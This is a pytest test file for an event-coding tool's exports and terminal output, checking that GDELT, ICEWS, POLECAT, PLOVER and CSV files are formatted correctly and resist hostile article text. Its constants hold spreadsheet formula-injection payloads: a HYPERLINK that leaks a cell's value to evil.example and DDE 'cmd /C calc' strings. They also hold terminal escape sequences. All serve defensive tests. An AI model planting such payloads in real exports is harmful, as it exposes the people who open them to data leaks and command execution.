"""Exports and terminal output that article text cannot turn against their reader: formula
injection in CSV-like files, escape sequences on terminals, GDELT/ICEWS/POLECAT files read as
their documentation says, PLOVER JSON records as the PLOVER manual defines them."""
from __future__ import annotations

import csv
import io
import json
import re
from datetime import date

import duckdb
import pytest
from conftest import run_cli
from test_store import GDELT_HEADER, ICEWS_HEADER, POLECAT_COLUMNS, read_foreign

from redline import Actor, Document, Event, ontology
from redline.output import write
from redline.store import Store, coded_rows

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31m"
REBELS = FORMULA + "\tcol\nnext line"            # a source actor's words: a formula, a tab, a line break
PUBLISHER = "@SUM(1+1)*cmd|' /C calc'!A0"
PLACE = "-2+3+cmd|' /C calc'!A0"
ATTACK = ESCAPES + "Rebels attacked the town, officials said."
BURNING = "+Militias burned the market."
STATEMENT = "-The ministry made a statement."


def _hostile_store(path):
    """Three events whose article text attacks spreadsheets, tab-separated readers and terminals:
    CAMEO 190 (Goldstein -10, a place at negative coordinates), 1712 (stored with the mode an
    older table gave it, 'seize') and 010 (a statement: no PLOVER type)."""
    def event(cameo, evidence, source, target, i, **extra):
        entry = ontology.cameo(cameo)
        return Event(doc_id="hostile", sentence_index=i, span=(0, len(evidence)), evidence=evidence, cameo=cameo,
                     cameo_root=entry.root, cameo_name=entry.name, plover=entry.plover, plover_mode=entry.plover_mode,
                     quad_class=entry.quad_class, goldstein=entry.goldstein, source=source, target=target,
                     date="2024-05-01", date_precision="day", trigger="x", **extra)
    events = [
        event("190", ATTACK, Actor(REBELS, None, None, "REB"), Actor("+1 town", "ARGCVL", "ARG", "CVL"), 0,
              location={"name": PLACE, "country": "ARG", "lat": -34.6037, "lon": -58.3816}),
        event("1712", BURNING, Actor("-militias", "ARGREB", "ARG", "REB"), None, 1),
        event("010", STATEMENT, Actor("@ministry", "ARGGOV", "ARG", "GOV"), None, 2),
    ]
    doc = Document("hostile", " ".join(e.evidence for e in events), date(2024, 5, 2),
                   url="https://wire.example/a?b=c", source=PUBLISHER, title="=1+1")
    with Store(path) as s:
        s.add([coded_rows(doc, events)])
        s.sql("UPDATE events SET plover_mode = 'seize' WHERE cameo = '1712'").fetchall()  # as an old store has it
    return path


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    return _hostile_store(tmp_path_factory.mktemp("hostile") / "hostile.duckdb")


def _export(db, fmt, path, *extra):
    p = run_cli("export", fmt, "-o", str(path), "--db", str(db), *extra)
    assert p.returncode == 0, p.stderr.decode()
    return path


def _formula_cells(rows):
    return [v for r in rows for v in r if isinstance(v, str) and v[:1] in ("=", "+", "-", "@", "\t", "\r")]


# --- formula injection -----------------------------------------------------------------------

def test_csv_export_neutralises_formulas_but_keeps_numbers(hostile, tmp_path):
    out = _export(hostile, "csv", tmp_path / "events.csv")
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    numbers = {"goldstein", "lat", "lon"}
    assert _formula_cells([[v for k, v in r.items() if k not in numbers] for r in rows]) == []
    attack = next(r for r in rows if r["cameo"] == "190")
    assert attack["source_text"] == "'" + REBELS and attack["target_text"] == "'+1 town"
    assert attack["location_name"] == "'" + PLACE
    assert (attack["goldstein"], attack["lat"], attack["lon"]) == ("-10.0", "-34.6037", "-58.3816")  # numbers stay numbers
    raw = _export(hostile, "csv", tmp_path / "raw.csv", "--raw-cells")
    attack = next(r for r in csv.DictReader(raw.open(encoding="utf-8", newline="")) if r["cameo"] == "190")
    assert attack["source_text"] == REBELS


def test_documents_csv_export_neutralises_publisher(hostile, tmp_path):
    out = _export(hostile, "csv", tmp_path / "docs.csv", "--table", "documents")
    [doc] = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert (doc["publisher"], doc["title"]) == ("'" + PUBLISHER, "'=1+1")


def test_foreign_formats_neutralise_formulas(hostile, tmp_path):
    for fmt in ("gdelt", "icews", "polecat"):
        _, records = read_foreign(_export(hostile, fmt, tmp_path / f"{fmt}.tsv"), fmt)
        numeric = {"GoldsteinScale", "ActionGeo_Lat", "ActionGeo_Long", "Intensity", "Latitude", "Longitude",
                   "Event Intensity"}
        assert _formula_cells([[v for k, v in r.items() if k not in numeric] for r in records]) == [], fmt
    _, gdelt = read_foreign(tmp_path / "gdelt.tsv", "gdelt")
    attack = next(r for r in gdelt if r["EventCode"] == "190")
    assert attack["Actor1Name"] == "'" + REBELS.upper().replace("\t", " ").replace("\n", " ")
    assert (attack["GoldsteinScale"], attack["ActionGeo_Lat"], attack["ActionGeo_Long"]) == \
        ("-10.0", "-34.6037", "-58.3816")
    _, raw = read_foreign(_export(hostile, "gdelt", tmp_path / "raw.tsv", "--raw-cells"), "gdelt")
    assert next(r for r in raw if r["EventCode"] == "190")["Actor1Name"].startswith("=HYPERLINK")


def test_code_csv_neutralises_formulas(tmp_path):
    article = tmp_path / "a.txt"
    article.write_text(f"{FORMULA} Russian forces shelled Kharkiv on Tuesday.\n", encoding="utf-8")
    p = run_cli("code", str(article), "--date", "2024-03-21", "--format", "csv", "-q")
    rows = list(csv.DictReader(io.StringIO(p.stdout.decode())))
    assert rows and any(r["evidence"].startswith("'=HYPERLINK") for r in rows)
    assert _formula_cells([[v for k, v in r.items() if k != "goldstein"] for r in rows]) == []
    assert all(float(r["goldstein"]) < 0 for r in rows)  # shelling: a negative number, not "'-..."
    raw = run_cli("code", str(article), "--date", "2024-03-21", "--format", "csv", "-q", "--raw-cells")
    assert any(r["evidence"].startswith("=HYPERLINK") for r in csv.DictReader(io.StringIO(raw.stdout.decode())))


def test_query_csv_neutralises_formulas(hostile):
    p = run_cli("query", "--db", str(hostile), "SELECT source_text, goldstein, lat FROM events ORDER BY cameo",
                "-f", "csv")
    rows = list(csv.reader(io.StringIO(p.stdout.decode())))
    assert rows[1:] == [["'@ministry", "0.0", ""], ["'-militias", "-9.2", ""], ["'" + REBELS, "-10.0", "-34.6037"]]


# --- terminal output -------------------------------------------------------------------------

def _no_controls(text: str) -> bool:
    return not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", text)


def test_query_table_strips_escape_sequences(hostile):
    p = run_cli("query", "--db", str(hostile), "SELECT evidence, source_text FROM events", "--limit", "0")
    out = p.stdout.decode()
    assert p.returncode == 0 and "Rebels attacked the town" in out
    assert _no_controls(out) and "owned" not in out


def test_code_table_strips_escape_sequences(tmp_path):
    article = tmp_path / "a.txt"
    article.write_text(f"{ESCAPES}Russian forces shelled Kharkiv on Tuesday.\n", encoding="utf-8")
    p = run_cli("code", str(article), "--date", "2024-03-21", "--format", "table")
    out = p.stdout.decode()
    assert p.returncode == 0 and "194 Fight" in out and "Russian forces shelled Kharkiv" in out
    assert _no_controls(out) and "owned" not in out


def test_table_writer_strips_controls_from_every_cell():
    e = Event(doc_id="doc\x1b[2J", sentence_index=0, span=(0, 1), evidence=ATTACK, cameo="190", cameo_root="19",
              cameo_name="Use conventional military force", plover="ASSAULT", plover_mode=None, quad_class=4,
              goldstein=-10.0, source=Actor(REBELS + "\x1b[1m"), target=Actor("\u202etown"), date="2024-05-01",
              date_precision="day", trigger="attacked")
    out = io.StringIO()
    writer = write("table", out)
    writer.write([e])
    writer.close()
    assert _no_controls(out.getvalue()) and "\u202e" not in out.getvalue() and "Rebels attacked" in out.getvalue()


def test_watch_strips_escape_sequences(hostile, tmp_path):
    rules = tmp_path / "rules.yaml"
    rules.write_text("rules:\n  - name: \"town\\e[31m\"\n    types: [ASSAULT]\n", encoding="utf-8")
    p = run_cli("watch", str(rules), "--db", str(hostile), "--dry-run")
    out = p.stdout.decode()
    assert p.returncode == 3 and "ALERT" in out and "Rebels attacked the town" in out
    assert _no_controls(out) and "owned" not in out


# --- GDELT, ICEWS, POLECAT read as documented ---------------------------------------------------

GDELT_TYPES = {c: "VARCHAR" for c in GDELT_HEADER} | {
    c: "INTEGER" for c in ("SQLDATE", "MonthYear", "Year", "IsRootEvent", "QuadClass", "NumMentions", "NumSources",
                           "NumArticles", "Actor1Geo_Type", "Actor2Geo_Type", "ActionGeo_Type")} | {
    c: "DOUBLE" for c in ("FractionDate", "GoldsteinScale", "AvgTone", "Actor1Geo_Lat", "Actor1Geo_Long",
                          "Actor2Geo_Lat", "Actor2Geo_Long", "ActionGeo_Lat", "ActionGeo_Long")} | {
    "GLOBALEVENTID": "BIGINT", "DATEADDED": "BIGINT"}


def test_gdelt_file_reads_as_gdelts_documentation_says(hostile, tmp_path):
    """GDELT 2.0 event files: tab-delimited, no header row, no quoting, 61 fields of the codebook's
    types. Read so by DuckDB and by Python's csv module, the file gives every event, whole."""
    out = _export(hostile, "gdelt", tmp_path / "events.export.CSV")
    lines = out.read_text(encoding="utf-8").split("\n")
    assert lines[-1] == "" and all(line.count("\t") == 60 for line in lines[:-1]) and len(lines) == 4
    assert not lines[0].startswith("GLOBALEVENTID")  # official files have no header
    columns = "{" + ", ".join(f"'{c}': '{t}'" for c, t in GDELT_TYPES.items()) + "}"
    rows = duckdb.sql(f"SELECT * FROM read_csv('{out}', delim='\t', quote='', escape='', header=false, "
                      f"columns={columns})").fetchall()
    assert len(rows) == 3 and all(len(r) == 61 for r in rows)
    by_code = {r[GDELT_HEADER.index("EventCode")]: dict(zip(GDELT_HEADER, r)) for r in rows}
    assert set(by_code) == {"190", "1712", "010"}
    attack = by_code["190"]
    assert (attack["SQLDATE"], attack["QuadClass"], attack["GoldsteinScale"]) == (20240501, 4, -10.0)
    assert (attack["ActionGeo_Lat"], attack["ActionGeo_Long"]) == (-34.6037, -58.3816)
    assert attack["Actor1Name"] == "'=HYPERLINK(\"HTTP://EVIL.EXAMPLE/?\"&A1,\"CLICK\") COL NEXT LINE"
    with_header = _export(hostile, "gdelt", tmp_path / "with-header.tsv", "--header")
    assert with_header.read_text(encoding="utf-8").split("\n")[0].split("\t") == GDELT_HEADER


def test_icews_and_polecat_files_are_plain_tab_separated(hostile, tmp_path):
    for fmt, header in (("icews", ICEWS_HEADER), ("polecat", POLECAT_COLUMNS)):
        out = _export(hostile, fmt, tmp_path / f"{fmt}.tsv")
        lines = out.read_text(encoding="utf-8").split("\n")
        assert lines[0].split("\t") == header
        assert all(line.count("\t") == len(header) - 1 for line in lines[1:-1]) and lines[-1] == ""


def test_polecat_file_has_polecats_columns_and_the_codebooks_modes(hostile, tmp_path):
    header, records = read_foreign(_export(hostile, "polecat", tmp_path / "polecat.tsv"), "polecat")
    assert header == POLECAT_COLUMNS and len(header) == 40
    assert [r["Event Type"] for r in records] == ["ASSAULT", "ASSAULT"]  # the statement (010) has no PLOVER type
    modes = {r["Event Mode"] for r in records}
    assert modes == {"", "destroy"}  # 190: no mode; 1712: destroy, though the store says 'seize'
    burning = next(r for r in records if r["Event Mode"] == "destroy")
    assert (burning["Contexts"], float(burning["Event Intensity"])) == ("human_security", -8.5)
    attack = next(r for r in records if r["Event Mode"] == "")
    assert (attack["Contexts"], float(attack["Event Intensity"]), attack["Latitude"]) == ("military", -9.0, "-34.6037")


# --- PLOVER JSON, as the PLOVER manual's data fields define it ---------------------------------

# the manual's Table 6.1 (record), 6.2 (entity), 6.5 (citation) and 6.6 (location)
RECORD_FIELDS = {"id", "has_event", "date", "time", "enddate", "endtime", "actor", "recipient", "event", "event_loc",
                 "event_text", "quad_code", "event_scale", "mode", "context", "link", "text", "text_info",
                 "cite_info", "coder", "coded_date", "coded_time", "comment"}
REQUIRED = {"id", "date", "actor", "event"}
ENTITY_FIELDS = {"code", "sector", "entity_text", "identifier_id", "identifier_text", "religion", "ethnicity",
                 "office", "gender", "age"}
CITE_FIELDS = {"corpus", "citation", "url", "title", "language", "publication", "license", "copyright", "coder",
               "codebook", "version"}
LOCATION_FIELDS = {"extracted_place", "resolved_place", "geonameid", "lat", "lon", "city", "district", "province",
                   "country", "country_code", "feature_class", "feature_code", "resolution"}


def read_plover(path):
    """PLOVER JSONL read and checked as the manual defines a record: one JSON object a line, only
    the manual's field names, the required ones present, lists where it says list."""
    records = []
    for line in path.read_text(encoding="utf-8").splitlines():
        r = json.loads(line)
        assert set(r) <= RECORD_FIELDS and REQUIRED <= set(r), set(r)
        assert isinstance(r["id"], str) and re.fullmatch(r"\d{4}-\d{2}-\d{2}", r["date"])
        for key in ("actor", "recipient"):
            assert all(set(e) <= ENTITY_FIELDS and e for e in r.get(key, [])), r.get(key)
        assert r["actor"] and all(t in {p.name for p in ontology.plover_types()} for t in r["event"])
        for key in ("event", "mode", "context", "event_text"):
            assert isinstance(r.get(key, []), list)
        assert all(m in ontology.plover(r["event"][0]).modes for m in r.get("mode", []))
        assert set(r.get("cite_info", {})) <= CITE_FIELDS and set(r.get("event_loc", {})) <= LOCATION_FIELDS
        assert r.get("quad_code", 1) in (1, 2, 3, 4)
        records.append(r)
    assert len({r["id"] for r in records}) == len(records)
    return records


def test_plover_export_reads_as_the_manual_defines_it(hostile, tmp_path):
    out = _export(hostile, "plover", tmp_path / "events.plover.jsonl")
    records = {r["event"][0] + (r.get("mode") or [""])[0]: r for r in read_plover(out)}
    assert set(records) == {"ASSAULT", "ASSAULTdestroy"}  # the statement has no PLOVER type
    attack = records["ASSAULT"]
    assert attack["date"] == "2024-05-01" and attack["actor"] == [{"sector": "REB", "entity_text": REBELS}]
    assert attack["recipient"] == [{"code": "ARG", "sector": "CVL", "entity_text": "+1 town"}]
    assert (attack["context"], attack["quad_code"], attack["event_scale"]) == (["military"], 4, -9.0)
    assert attack["event_text"] == [ATTACK]  # JSON: the text as it was, escaped by JSON itself
    assert attack["event_loc"] == {"resolved_place": PLACE, "lat": -34.6037, "lon": -58.3816, "country": "Argentina",
                                   "country_code": "ARG"}
    assert attack["cite_info"]["url"] == "https://wire.example/a?b=c" and attack["cite_info"]["language"] == "en"
    assert records["ASSAULTdestroy"]["actor"] == [{"code": "ARG", "sector": "REB", "entity_text": "-militias"}]


def test_plover_export_of_coded_examples(tmp_path):
    """Real coded articles: every exported record reads back, and every event with a PLOVER type,
    a date and an actor is there."""
    from test_store import EXAMPLES
    db = tmp_path / "examples.duckdb"
    assert run_cli("ingest", str(EXAMPLES / "01_russia_invades_ukraine.txt"), "--db", str(db), "-q").returncode == 0
    records = read_plover(_export(db, "plover", tmp_path / "events.jsonl"))
    with Store(db, read_only=True) as s:
        expected = s.sql("SELECT count(*) FROM events WHERE plover IS NOT NULL AND date IS NOT NULL "
                         "AND (source_code IS NOT NULL OR source_text IS NOT NULL)").fetchall()[0][0]
    assert expected > 0 and len(records) == expected


PLACED_TEXT = ("Syrian government forces shelled the town of Saraqib in Idlib province on Monday, killing four "
               "civilians. Rebels attacked an army checkpoint in Homs, officials said.")


def test_the_place_reaches_every_export(tmp_path):
    """Coded text, the real coder: the place's town, division, country and point are in GDELT's
    ActionGeo_* columns, ICEWS's City/District/Province/Country/Latitude/Longitude and PLOVER's
    event_loc, read from the same stored columns."""
    src = tmp_path / "syria.txt"
    src.write_text(PLACED_TEXT, encoding="utf-8")
    db = tmp_path / "placed.duckdb"
    assert run_cli("ingest", str(src), "--db", str(db), "--date", "2024-03-04", "-q").returncode == 0
    with Store(db, read_only=True) as s:
        stored = s.rows("SELECT location_name, location_country, location_admin1, location_precision, "
                        "location_source, lat, lon FROM events WHERE location_name = 'Saraqib'")
    assert stored and stored[0]["location_admin1"] == "Idlib" and stored[0]["location_precision"] == "town"
    assert stored[0]["location_source"] == "clause" and stored[0]["location_country"] == "SYR"
    lat, lon = stored[0]["lat"], stored[0]["lon"]

    gdelt = tmp_path / "events.gdelt.tsv"
    _export(db, "gdelt", gdelt, "--header")
    rows = list(csv.DictReader(gdelt.read_text(encoding="utf-8").splitlines(), delimiter="\t", quoting=csv.QUOTE_NONE))
    saraqib = [r for r in rows if r["ActionGeo_FullName"].startswith("Saraqib")]
    assert saraqib, [r["ActionGeo_FullName"] for r in rows]
    r = saraqib[0]
    assert r["ActionGeo_FullName"] == "Saraqib, Idlib, Syria" and r["ActionGeo_Type"] == "4"
    assert r["ActionGeo_CountryCode"] == "SY"  # FIPS 10-4, as GDELT has it
    assert (float(r["ActionGeo_Lat"]), float(r["ActionGeo_Long"])) == (lat, lon)

    icews = tmp_path / "events.icews.tsv"
    _export(db, "icews", icews)
    rows = list(csv.DictReader(icews.read_text(encoding="utf-8").splitlines(), delimiter="\t", quoting=csv.QUOTE_NONE))
    r = next(r for r in rows if r["City"] == "Saraqib")
    assert (r["Province"], r["Country"], float(r["Latitude"]), float(r["Longitude"])) == ("Idlib", "Syria", lat, lon)

    records = read_plover(_export(db, "plover", tmp_path / "events.plover.jsonl"))
    loc = next(r["event_loc"] for r in records if r.get("event_loc", {}).get("city") == "Saraqib")
    assert loc["province"] == "Idlib" and loc["country_code"] == "SYR" and loc["resolution"] == 4  # a city


def _older_store(db, columns, version: int) -> None:
    """Make ``db`` a store of an older schema ``version``: ``columns`` dropped from mentions and events."""
    with Store(db) as s:
        s.sql("DROP INDEX mentions_event_key").fetchall()
        for table in ("mentions", "events"):
            for column in columns:
                s.sql(f"ALTER TABLE {table} DROP COLUMN {column}").fetchall()
        s.sql("CREATE INDEX mentions_event_key ON mentions (event_key)").fetchall()
        s.sql(f"UPDATE store_info SET value = '{version}' WHERE key = 'schema_version'").fetchall()


def test_a_store_of_schema_4_is_upgraded_and_exports(tmp_path):
    """A store written before the place's division was kept: opened for writing it gets the new
    columns (empty for its old events), and new events fill them; the exports read both."""
    from redline.store.migrate import PLACE_COLUMNS, SCHEMA_VERSION
    db = tmp_path / "old.duckdb"
    src = tmp_path / "syria.txt"
    src.write_text(PLACED_TEXT, encoding="utf-8")
    assert run_cli("ingest", str(src), "--db", str(db), "--date", "2024-03-04", "-q").returncode == 0
    _older_store(db, PLACE_COLUMNS, 4)  # a schema-4 store: no place columns
    gdelt = _export(db, "gdelt", tmp_path / "old.tsv")  # read-only: the columns are empty
    assert "Saraqib, Syria" in gdelt.read_text(encoding="utf-8")
    # read-only, every reader sees the columns (empty): the division filter matches nothing, not an error
    by_division = run_cli("query", "--db", str(db), "--admin1", "Idlib", "--format", "jsonl")
    assert by_division.returncode == 0 and by_division.stdout.decode().strip() == ""
    by_country = run_cli("query", "--db", str(db), "--country", "SYR", "--format", "jsonl")
    assert by_country.returncode == 0 and "Saraqib" in by_country.stdout.decode()
    with Store(db, read_only=True) as s:  # and the file is not changed: still schema 4
        assert s.sql("SELECT value FROM store_info WHERE key = 'schema_version'").fetchall() == [("4",)]
    more = tmp_path / "more.txt"
    more.write_text("Gunmen killed two soldiers in the town of Kidal in Mali on Tuesday.", encoding="utf-8")
    assert run_cli("ingest", str(more), "--db", str(db), "--date", "2024-03-05", "-q").returncode == 0
    with Store(db, read_only=True) as s:
        assert s.sql("SELECT value FROM store_info WHERE key = 'schema_version'").fetchall() == [(str(SCHEMA_VERSION),)]
        rows = {r["location_name"]: r for r in s.rows("SELECT * FROM events WHERE location_name IS NOT NULL")}
    assert rows["Kidal"]["location_precision"] == "town" and rows["Kidal"]["location_source"] == "clause"
    assert rows["Saraqib"]["location_precision"] is None and rows["Saraqib"]["lat"] is not None


# --- GeoNames ids and division codes (issue 15): sentences written for these tests --------------

GEO_DOCS = {
    "peoria.txt": "Police arrested twelve protesters in Peoria, Illinois on Saturday after clashes outside city hall.",
    "gao.txt": "Gunmen kidnapped four aid workers in the town of Gao in Mali on Wednesday.",
    "ukraine.txt": "Russian forces attacked Ukraine on Monday, the ministry said.",
}


def _geo_store(tmp_path, names, db=None):
    folder = tmp_path / ("docs-" + "-".join(sorted(names)))
    folder.mkdir()
    for name in names:
        (folder / name).write_text(GEO_DOCS[name], encoding="utf-8")
    db = db or tmp_path / "geo.duckdb"
    assert run_cli("ingest", str(folder), "--db", str(db), "--date", "2024-03-05", "-q").returncode == 0
    return db


def _gdelt_by_place(db, path):
    _, rows = read_foreign(_export(db, "gdelt", path), "gdelt")
    return {r["ActionGeo_FullName"].split(",")[0]: r for r in rows if r["ActionGeo_FullName"]}


def test_a_town_event_exports_its_division_codes_and_geonames_id(tmp_path):
    """A town's GeoNames id and its division codes are stored and exported: GDELT's ADM1 code is
    the FIPS country code and GeoNames' admin1 code (USIL, ML09), its ADM2 code a US county's
    (state + county FIPS), its FeatureID the GeoNames id; POLECAT's GeoNames ID and PLOVER's
    event_loc geonameid too. A place known only as a country leaves them all empty."""
    db = _geo_store(tmp_path, GEO_DOCS)
    with Store(db, read_only=True) as s:
        stored = {r["location_name"]: r for r in s.rows(
            "SELECT location_name, location_precision, location_geonameid, location_admin1_code, "
            "location_admin2_code FROM events WHERE location_name IS NOT NULL")}
    assert stored["Peoria"]["location_geonameid"] == 4905687
    assert (stored["Peoria"]["location_admin1_code"], stored["Peoria"]["location_admin2_code"]) == ("IL", "143")
    assert (stored["Gao"]["location_geonameid"], stored["Gao"]["location_admin1_code"]) == (2457163, "09")
    assert stored["Ukraine"]["location_precision"] == "country"
    assert [stored["Ukraine"][c] for c in ("location_geonameid", "location_admin1_code", "location_admin2_code")] \
        == [None, None, None]

    rows = _gdelt_by_place(db, tmp_path / "geo.tsv")
    peoria, gao, ukraine = rows["Peoria"], rows["Gao"], rows["Ukraine"]
    assert (peoria["ActionGeo_Type"], peoria["ActionGeo_CountryCode"]) == ("3", "US")
    assert (peoria["ActionGeo_ADM1Code"], peoria["ActionGeo_ADM2Code"], peoria["ActionGeo_FeatureID"]) \
        == ("USIL", "IL143", "4905687")
    assert (gao["ActionGeo_ADM1Code"], gao["ActionGeo_ADM2Code"], gao["ActionGeo_FeatureID"]) == ("ML09", "", "2457163")
    assert ukraine["ActionGeo_Type"] == "1" and ukraine["ActionGeo_CountryCode"] == "UP"
    assert (ukraine["ActionGeo_ADM1Code"], ukraine["ActionGeo_ADM2Code"], ukraine["ActionGeo_FeatureID"]) == ("", "", "")

    _, polecat = read_foreign(_export(db, "polecat", tmp_path / "geo.polecat.tsv"), "polecat")
    ids = {r["Placename"]: r["GeoNames ID"] for r in polecat}
    assert ids["Gao"] == "2457163" and ids.get("Ukraine", "") == ""
    locs = {r["event_loc"]["resolved_place"]: r["event_loc"]
            for r in read_plover(_export(db, "plover", tmp_path / "geo.plover.jsonl")) if "event_loc" in r}
    assert locs["Gao"]["geonameid"] == 2457163 and locs["Gao"]["resolution"] == 4 and locs["Gao"]["feature_class"] == "P"
    assert "geonameid" not in locs["Ukraine"] and locs["Ukraine"]["resolution"] == 1


def test_a_store_of_schema_5_opens_exports_and_is_upgraded(tmp_path):
    """A store written before the GeoNames id and codes were kept: read-only it opens and exports
    (the columns empty, the file untouched); opened for writing it gets the columns, new events
    fill them and the old ones keep theirs empty."""
    from redline.store.migrate import CODE_COLUMNS, SCHEMA_VERSION
    db = _geo_store(tmp_path, ["gao.txt"])
    _older_store(db, CODE_COLUMNS, 5)  # a schema-5 store: no code columns
    gao = _gdelt_by_place(db, tmp_path / "old.tsv")["Gao"]
    assert gao["ActionGeo_Type"] == "4" and gao["ActionGeo_Lat"] != ""
    assert (gao["ActionGeo_ADM1Code"], gao["ActionGeo_FeatureID"]) == ("", "")
    assert read_plover(_export(db, "plover", tmp_path / "old.plover.jsonl"))
    with Store(db, read_only=True) as s:
        assert s.sql("SELECT value FROM store_info WHERE key = 'schema_version'").fetchall() == [("5",)]
    _geo_store(tmp_path, ["peoria.txt"], db)
    with Store(db, read_only=True) as s:
        assert s.sql("SELECT value FROM store_info WHERE key = 'schema_version'").fetchall() == [(str(SCHEMA_VERSION),)]
        rows = {r["location_name"]: r for r in s.rows("SELECT * FROM events WHERE location_name IS NOT NULL")}
    assert rows["Peoria"]["location_geonameid"] == 4905687 and rows["Gao"]["location_geonameid"] is None
    rows = _gdelt_by_place(db, tmp_path / "new.tsv")
    assert rows["Peoria"]["ActionGeo_ADM1Code"] == "USIL" and rows["Gao"]["ActionGeo_ADM1Code"] == ""


def test_gdelt_adm1_code_only_where_geonames_code_is_fips(tmp_path):
    """GeoNames' admin1 codes are FIPS 10-4 for most countries: Switzerland's are ISO 3166-2
    ("ZH"), Britain's its nations ("ENG"); those leave GDELT's ADM1 code empty, the id stays."""
    def event(i, location):
        entry = ontology.cameo("190")
        return Event(doc_id="codes", sentence_index=i, span=(0, 1), evidence=f"Attack {i}.", cameo="190",
                     cameo_root=entry.root, cameo_name=entry.name, plover=entry.plover, plover_mode=entry.plover_mode,
                     quad_class=entry.quad_class, goldstein=entry.goldstein, source=Actor(f"rebels {i}", None, None, "REB"),
                     target=None, date="2024-05-01", date_precision="day", trigger="x", location=location)
    town = {"precision": "town", "lat": 1.0, "lon": 2.0}
    events = [event(0, {**town, "name": "Zurich", "country": "CHE", "admin1_code": "ZH", "geonameid": 2657896}),
              event(1, {**town, "name": "London", "country": "GBR", "admin1_code": "ENG", "geonameid": 2643743}),
              event(2, {**town, "name": "Kharkiv", "country": "UKR", "admin1_code": "07", "geonameid": 706483})]
    db = tmp_path / "codes.duckdb"
    with Store(db) as s:
        s.add([coded_rows(Document("codes", "Attack.", date(2024, 5, 2)), events)])
    rows = _gdelt_by_place(db, tmp_path / "codes.tsv")
    assert [rows[n]["ActionGeo_ADM1Code"] for n in ("Zurich", "London", "Kharkiv")] == ["", "", "UP07"]
    assert [rows[n]["ActionGeo_FeatureID"] for n in ("Zurich", "London", "Kharkiv")] == ["2657896", "2643743", "706483"]
